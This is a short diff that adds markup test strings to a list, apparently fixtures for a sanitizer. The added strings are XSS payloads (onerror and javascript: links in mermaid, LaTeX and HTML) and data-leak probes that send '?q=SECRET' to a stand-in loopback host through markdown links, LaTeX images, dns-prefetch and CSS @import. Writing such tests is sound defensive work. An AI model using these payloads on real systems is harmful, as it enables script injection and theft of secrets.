@@ -16,4 +16,8 @@ MARKUP = [
     "</textarea><b>x</b>",
     "&lt;b&gt;&amp;&#60;",
     "\u202egnihtemos <!-- x --> <![CDATA[x]]>",
+    '```mermaid\ngraph TD; A[<img src=x onerror=alert(1)>]-->B; click A href "javascript:alert(1)"\n```\n'
+    "$$\\href{javascript:alert(1)}{x}$$ \\(\\includegraphics{http://127.0.0.1:9/x}\\)",
+    "![x][y] <http://127.0.0.1:9/?q=SECRET> http://127.0.0.1:9/ [y]: http://127.0.0.1:9/?q=SECRET "
+    "<link rel=dns-prefetch href=//127.0.0.1:9/><style>@import url(http://127.0.0.1:9/);</style>",
 ]
